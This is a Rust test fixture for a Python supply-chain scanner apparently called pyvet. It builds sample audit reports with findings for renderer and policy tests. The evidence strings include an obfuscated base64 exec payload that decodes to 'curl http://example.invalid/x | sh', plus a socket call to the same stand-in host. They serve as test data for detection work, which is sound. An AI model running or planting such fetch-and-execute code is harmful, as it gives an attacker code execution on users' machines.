//! A hand-built report for renderer and policy tests: one package per situation a reader meets
//! (pass, warn, fail on code, suppressed, hash mismatch, metadata-only), with real rule ids so
//! SARIF is rendered with the real catalogue, plus the policy and the snapshot filters the
//! tests share.

use std::collections::BTreeMap;
use std::path::Path;

use pyvet::config::Config;
use pyvet::finding::{Confidence, Finding, Runs, Severity, Verdict};
use pyvet::hash::{Digest, Hashes};
use pyvet::metadata::PackageMetadata;
use pyvet::package::{ArtifactKind, Source};
use pyvet::report::{
    ArtifactReport, ArtifactStatus, PackageReport, Report, Summary, Tool, UpgradeSummary,
    SCHEMA_VERSION,
};

pub fn ts(s: &str) -> jiff::Timestamp {
    s.parse().unwrap()
}

fn sha(c: char) -> String {
    std::iter::repeat_n(c, 64).collect()
}

pub fn artifact(filename: &str, status: ArtifactStatus) -> ArtifactReport {
    ArtifactReport {
        filename: filename.into(),
        url: Some(format!("https://example.invalid/files/{filename}")),
        kind: ArtifactKind::from_filename(filename),
        expected_hashes: Hashes::from_digest(
            Digest::parse(&format!("sha256:{}", sha('a'))).unwrap(),
        ),
        sha256: Some(sha(if status == ArtifactStatus::HashMismatch {
            'b'
        } else {
            'a'
        })),
        status,
        detail: None,
    }
}

pub fn package(name: &str, version: &str, line: u32, findings: Vec<Finding>) -> PackageReport {
    PackageReport {
        name: name.into(),
        version: Some(version.into()),
        source: Some(Source::Registry {
            url: Some("https://user:pw@example.invalid/simple/".into()),
        }),
        file: Some("requirements.txt".into()),
        line: Some(line),
        change: None,
        upgrade: None,
        artifacts: vec![artifact(
            &format!("{}-{version}-py3-none-any.whl", name.replace('-', "_")),
            ArtifactStatus::Verified,
        )],
        verdict: Verdict::Pass,
        findings,
        metadata: None,
    }
}

#[allow(clippy::too_many_arguments)]
fn code(
    rule: &str,
    sev: Severity,
    pkg: &str,
    ver: &str,
    path: &str,
    line: u32,
    msg: &str,
    ev: &str,
) -> Finding {
    Finding::new(rule, sev, Confidence::High, msg)
        .for_package(pkg, Some(ver))
        .in_artifact(&format!("{}-{ver}-py3-none-any.whl", pkg.replace('-', "_")))
        .at(path, Some(line))
        .with_evidence(ev)
}

fn pkg_level(rule: &str, sev: Severity, pkg: &str, ver: &str, msg: &str) -> Finding {
    Finding::new(rule, sev, Confidence::Medium, msg).for_package(pkg, Some(ver))
}

/// The report as the pipeline hands it to policy: verdicts and summary not yet computed.
pub fn raw_report() -> Report {
    let mut packages = vec![
        package("requests", "2.32.3", 3, vec![]),
        package(
            "evil-pkg",
            "1.0.0",
            5,
            vec![
                code(
                    "packer",
                    Severity::Low,
                    "evil-pkg",
                    "1.0.0",
                    "evil_pkg/_x.py",
                    1,
                    "Most identifiers are one or two characters long.",
                    "O0=lambda l1:l1",
                ),
                code(
                    "exec-decoded",
                    Severity::Critical,
                    "evil-pkg",
                    "1.0.0",
                    "evil_pkg/__init__.py",
                    3,
                    "Decodes a base64 blob and passes it to exec() at import time.",
                    "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))\n# decoded: import os; os.system('curl http://example.invalid/x | sh')\n# third line that the table cuts",
                ),
                code(
                    "suspicious-destination",
                    Severity::High,
                    "evil-pkg",
                    "1.0.0",
                    "evil_pkg/__init__.py",
                    7,
                    "Opens a socket to example.invalid:443 when imported.",
                    "socket.create_connection((\"example.invalid\", 443))",
                ),
            ],
        ),
        package(
            "tinyhelper",
            "0.0.2",
            7,
            vec![
                pkg_level("recent-release", Severity::Medium, "tinyhelper", "0.0.2", "Released 2 days ago (min-release-age is 7 days)."),
                pkg_level("no-source-repository", Severity::Low, "tinyhelper", "0.0.2", "The project links no source repository."),
            ],
        ),
        package(
            "vetted-tool",
            "3.1.0",
            9,
            vec![code(
                "install-hook-network",
                Severity::High,
                "vetted-tool",
                "3.1.0",
                "setup.py",
                12,
                "setup.py downloads a file during installation.",
                "urllib.request.urlretrieve(URL, \"data.bin\")",
            )],
        ),
        package(
            "mirror-pkg",
            "1.4.0",
            11,
            vec![Finding::new(
                "hash-mismatch",
                Severity::Critical,
                Confidence::High,
                format!("sha256 of the downloaded file is {} but the lockfile says {}.", sha('b'), sha('a')),
            )
            .for_package("mirror-pkg", Some("1.4.0"))
            .in_artifact("mirror_pkg-1.4.0-py3-none-any.whl")],
        ),
        package(
            "oldlib",
            "1.0",
            13,
            vec![pkg_level("dormant-revived", Severity::Low, "oldlib", "1.0", "No release between 2019-03-01 and 2026-11-01.")],
        ),
    ];
    packages[4].artifacts[0].status = ArtifactStatus::HashMismatch;
    packages[4].artifacts[0].detail = Some("expected sha256 aaaa…, got bbbb…".into());
    packages[5].metadata = Some(PackageMetadata {
        upload_time: Some(ts("2026-11-01T08:00:00Z")),
        first_release: Some(ts("2015-06-01T12:00:00Z")),
        repository: Some("https://example.invalid/oldlib".into()),
        owners: vec!["alice".into()],
        organization: None,
        yanked: false,
        yanked_reason: None,
        ..Default::default()
    });
    packages[0]
        .artifacts
        .push(artifact("requests-2.32.3.tar.gz", ArtifactStatus::Skipped));
    Report {
        schema_version: SCHEMA_VERSION,
        tool: Tool::default(),
        command: "audit".into(),
        inputs: vec!["requirements.txt".into()],
        generated_at: ts("2026-11-20T10:00:00Z"),
        fail_on: Severity::High,
        summary: Summary {
            findings: BTreeMap::new(),
            ..Summary::default()
        },
        packages,
        not_installed: Vec::new(),
        notes: vec!["The vulnerability database is 12 days old; run `pyvet db update`.".into()],
    }
}

/// The policy the fixture is judged under: vetted-tool's install hook was reviewed.
pub fn fixture_config() -> Config {
    let text = r#"
fail-on = "high"

[[ignore]]
package = "Vetted_Tool"
rule = "install-hook-network"
reason = "Reviewed: downloads its own test data from the project's mirror."
"#;
    Config::from_toml(Path::new("pyvet.toml"), text, &pyvet::catalog::is_known).unwrap()
}

pub fn now() -> jiff::Timestamp {
    ts("2026-11-20T10:00:00Z")
}

/// The report after policy, as renderers receive it.
pub fn report() -> Report {
    let mut r = raw_report();
    pyvet::policy::apply(&mut r, &fixture_config(), now());
    r
}

/// The package of `report` called `name`.
pub fn package_mut<'a>(report: &'a mut Report, name: &str) -> &'a mut PackageReport {
    report
        .packages
        .iter_mut()
        .find(|p| p.name == name)
        .unwrap_or_else(|| panic!("no package {name}"))
}

/// A wheel filename as long as real ones get (coverage's manylinux wheels).
pub const LONG_WHEEL: &str = "coverage-7.6.1-cp312-cp312-manylinux_2_5_x86_64.manylinux1_x86_64.manylinux_2_17_x86_64.manylinux2014_x86_64.whl";

/// The fixture grown into what a reader meets on a real lockfile in pre-merge mode: every
/// severity (info owners included), a vulnerability with a fixed version, a suppressed
/// finding, code findings that say what matched, what was decoded and when they run, a long
/// wheel filename, an upgrade with its file summary, and paths that differ per run (a temporary
/// project directory `root`, a loopback index on `port`) for the filters to hide.
pub fn realistic_raw_report(root: &Path, port: u16) -> Report {
    let mut r = raw_report();
    let lock = root.join("requirements.txt").display().to_string();
    r.inputs = vec![lock.clone()];
    for p in &mut r.packages {
        p.file = Some(lock.clone());
        for a in &mut p.artifacts {
            a.url = Some(format!("http://127.0.0.1:{port}/files/{}", a.filename));
        }
    }
    for f in &mut package_mut(&mut r, "evil-pkg").findings {
        match f.rule.as_str() {
            "exec-decoded" => {
                *f = f
                    .clone()
                    .with_match("exec")
                    .with_decoded("import os; os.system('curl http://example.invalid/x | sh')")
                    .runs(Runs::Import);
                f.evidence = Some(
                    "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))".into(),
                );
            }
            "suspicious-destination" => {
                *f = f
                    .clone()
                    .with_match("socket.create_connection")
                    .runs(Runs::Import)
            }
            "packer" => *f = f.clone().runs(Runs::Call),
            _ => {}
        }
    }
    r.packages[0].findings.push(
        Finding::new(
            "maintainers",
            Severity::Info,
            Confidence::High,
            "owners: alice (Owner), bob (Maintainer)",
        )
        .for_package("requests", Some("2.32.3")),
    );

    let mut coverage = package(
        "coverage",
        "7.6.1",
        15,
        vec![Finding::new(
            "pth-exec",
            Severity::High,
            Confidence::Medium,
            "A .pth file imports code at every interpreter start.",
        )
        .for_package("coverage", Some("7.6.1"))
        .in_artifact(LONG_WHEEL)
        .at("a1_coverage.pth", Some(1))
        .with_evidence("import os, sys; exec(open(os.environ['COVERAGE_PROCESS_START']).read()) if 'COVERAGE_PROCESS_START' in os.environ else None")
        .with_match("exec")
        .runs(Runs::Install)],
    );
    coverage.file = Some(lock.clone());
    coverage.artifacts = vec![artifact(LONG_WHEEL, ArtifactStatus::Verified)];
    coverage.artifacts[0].url = Some(format!("http://127.0.0.1:{port}/files/{LONG_WHEEL}"));
    coverage.change = Some("upgraded from 7.5.0".into());
    coverage.upgrade = Some(UpgradeSummary {
        files_added: 3,
        files_removed: 1,
        files_modified: 12,
        new_install_hooks: vec!["a1_coverage.pth".into()],
        new_dependencies: vec![],
    });
    r.packages.push(coverage);

    let mut urllib3 = package(
        "urllib3",
        "2.2.1",
        17,
        vec![Finding::new(
            "known-vulnerability",
            Severity::High,
            Confidence::High,
            "GHSA-0000-0000-0000 / CVE-2099-0001: Proxy-Authorization header kept on cross-origin redirects (fixed in 2.2.2)",
        )
        .for_package("urllib3", Some("2.2.1"))
        .with_evidence("ids: GHSA-0000-0000-0000, CVE-2099-0001\naffected (GHSA-0000-0000-0000): >=0, <2.2.2\nseverity: CVSS 3.1 base score 7.5")
        .with_action("upgrade urllib3 to 2.2.2 or later")],
    );
    urllib3.file = Some(lock);
    urllib3.artifacts[0].url = Some(format!(
        "http://127.0.0.1:{port}/files/urllib3-2.2.1-py3-none-any.whl"
    ));
    urllib3.change = Some("added".into());
    r.packages.push(urllib3);
    r.notes.push(format!(
        "pre-merge mode: {} package(s) changed since origin/main, 12 unchanged and not vetted",
        r.packages.len()
    ));
    r.summary.unchanged = 12;
    r.generated_at = jiff::Timestamp::now();
    r
}

/// [`realistic_raw_report`] after policy.
pub fn realistic_report(root: &Path, port: u16) -> Report {
    let mut r = realistic_raw_report(root, port);
    pyvet::policy::apply(&mut r, &fixture_config(), now());
    r
}

/// Snapshot settings for reports made under `root` and served on `port`: also hides those.
pub fn settings_for(root: &Path, port: u16) -> insta::Settings {
    let mut s = settings();
    s.add_filter(&regex::escape(&root.display().to_string()), "[TEMP]");
    s.add_filter(&format!(r"127\.0\.0\.1:{port}\b"), "127.0.0.1:[PORT]");
    s
}

/// Snapshot settings: hide the tool version and timestamps.
pub fn settings() -> insta::Settings {
    let mut s = insta::Settings::clone_current();
    s.set_snapshot_path("snapshots");
    s.set_prepend_module_to_snapshot(false);
    s.add_filter(&regex_escape(env!("CARGO_PKG_VERSION")), "[VERSION]");
    s.add_filter(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z", "[TIME]");
    s
}

fn regex_escape(s: &str) -> String {
    s.replace('.', r"\.")
}
